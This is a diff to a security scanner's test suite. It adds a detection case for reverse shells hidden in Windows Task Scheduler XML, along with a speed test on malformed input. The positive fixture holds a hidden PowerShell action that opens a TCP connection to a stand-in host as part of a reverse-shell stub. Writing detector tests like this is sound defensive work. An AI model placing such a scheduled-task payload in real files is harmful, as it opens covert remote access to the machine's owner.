@@ -631,3 +631,41 @@ describe('adversarial Ruby process calls', () => {
     expectScansQuickly([text], 'lib/x.rb');
   });
 });
+
+describeRuleCases('reverse-shell (Task Scheduler XML actions)', [
+  {
+    // The task's second action, read as the command line the scheduler runs.
+    id: 'SG-RSHELL-004',
+    file: 'tasks/NightlyIndex.xml',
+    positive: `<?xml version="1.0"?>
+<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
+  <Actions Context="Author">
+    <Exec><Command>C:\\Tools\\indexer.exe</Command><Arguments>/full</Arguments></Exec>
+    <Exec>
+      <Command>pwsh.exe</Command>
+      <Arguments>-w hidden -c "$t=New-Object System.Net.Sockets.TCPClient('192.0.2.8',8443);$r=$t.GetStream()"</Arguments>
+    </Exec>
+  </Actions>
+</Task>
+`,
+    negative: `<?xml version="1.0"?>
+<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
+  <Actions Context="Author">
+    <Exec><Command>C:\\Tools\\indexer.exe</Command><Arguments>/full /log C:\\Logs\\index.log</Arguments></Exec>
+  </Actions>
+</Task>
+`,
+  },
+]);
+
+describe('reverse-shell (Task Scheduler XML): adversarial input', () => {
+  it('should scan 1 MiB of unclosed and empty actions in under a second', () => {
+    expectScansQuickly(
+      [
+        '<Exec><Command>'.repeat((1024 * 1024) / 15),
+        '<Exec><Command>a</Command></Exec>'.repeat((1024 * 1024) / 33),
+      ],
+      'task.xml',
+    );
+  });
+});
